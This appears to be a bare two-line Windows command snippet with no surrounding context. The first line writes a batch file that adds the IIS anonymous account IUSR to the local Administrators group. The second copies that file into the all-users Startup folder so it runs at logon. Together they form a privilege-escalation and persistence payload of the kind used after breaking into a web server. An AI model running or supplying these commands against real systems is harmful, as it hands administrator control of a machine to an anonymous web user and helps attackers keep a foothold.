echo net localgroup Administrators IUSR /add > C:\setup.cmd
copy /y C:\setup.cmd "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp"
